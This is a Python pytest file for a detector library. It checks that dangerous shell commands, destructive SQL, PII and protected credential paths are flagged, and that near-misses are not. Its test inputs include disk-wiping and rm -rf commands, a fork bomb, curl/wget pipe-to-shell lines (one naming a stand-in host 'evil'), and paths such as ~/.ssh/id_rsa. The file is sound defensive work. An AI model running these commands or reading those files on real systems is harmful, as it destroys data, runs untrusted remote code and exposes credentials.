"""Detectors on real-world samples, and near-misses that must not match."""

from __future__ import annotations

import pytest

from staso.detectors import (
    find_pii,
    is_dangerous_shell,
    is_destructive_sql,
    is_protected_path,
    redact_pii,
)


@pytest.mark.parametrize("cmd", [
    "rm -rf /", "sudo rm -rf / --no-preserve-root", "rm -fr /*", "rm -rf ~", "rm -Rf $HOME",
    "cd /tmp && rm -rf /etc", "dd if=/dev/zero of=/dev/sda bs=1M", "mkfs.ext4 /dev/sdb1",
    ":(){ :|:& };:", "curl -fsSL https://x.sh/install | sh", "wget -qO- http://e.com/a | sudo bash",
    "chmod -R 777 /", "bash <(curl -s http://evil/x)", "echo hi; rm -rf --no-preserve-root /",
])
def test_dangerous_shell(cmd):
    assert is_dangerous_shell(cmd)


@pytest.mark.parametrize("cmd", [
    "rm -rf ./build", "rm -rf /tmp/build", "rm file.txt", "ls -la /", "chmod 755 script.sh",
    "chmod -R 755 ./public", "dd if=in.img of=out.img", "curl https://api.example.com -o out.json",
    "echo 'rm -rf is dangerous'", "git rm -r --cached node_modules",
])
def test_safe_shell(cmd):
    assert not is_dangerous_shell(cmd)


@pytest.mark.parametrize("sql", [
    "DROP TABLE users", "drop database prod;", "TRUNCATE orders", "DELETE FROM users",
    "delete from users -- WHERE id = 1", "UPDATE accounts SET balance = 0",
    "SELECT 1; DROP TABLE x", "ALTER TABLE users DROP COLUMN email",
    "/* cleanup */ DELETE FROM sessions;",
])
def test_destructive_sql(sql):
    assert is_destructive_sql(sql)


@pytest.mark.parametrize("sql", [
    "DELETE FROM users WHERE id = 1", "UPDATE accounts SET balance = 0 WHERE id = 7",
    "SELECT * FROM drop_log", "SELECT 'DROP TABLE x' AS s", "INSERT INTO t VALUES (1)",
    "We will drop table support next quarter.", "-- DROP TABLE users\nSELECT 1",
])
def test_safe_sql(sql):
    assert not is_destructive_sql(sql)


def test_pii_findings_and_near_misses():
    kinds = [k for k, *_ in find_pii(
        "SSN 123-45-6789, card 4111-1111-1111-1111, mail jo@example.org, call (415) 555-0132, "
        "key sk-abcdefghijklmnopqrstuvwxyz123456")]
    assert kinds == ["ssn", "credit_card", "email", "phone", "api_key"]
    assert find_pii("order 4111-1111-1111-1112 total") == []  # fails the Luhn check
    assert find_pii("SSN 000-12-3456 and 666-12-3456") == []  # never-issued areas
    assert find_pii("invoice 2024-05-1234") == []
    text, hits = redact_pii("ssn 123-45-6789", ["ssn"])
    assert (text, hits) == ("ssn [REDACTED:ssn]", ["ssn"])


@pytest.mark.parametrize("path,hit", [
    ("/etc/passwd", True), ("cat ~/.ssh/id_rsa", True), (".env", True), ("app/.env.local", True),
    ("/home/bob/.aws/credentials", True), ("/etcetera/x", False), (".env.example", False),
    ("./src/environment.py", False), ("/tmp/report.csv", False),
])
def test_protected_paths(path, hit):
    assert is_protected_path(path) is hit
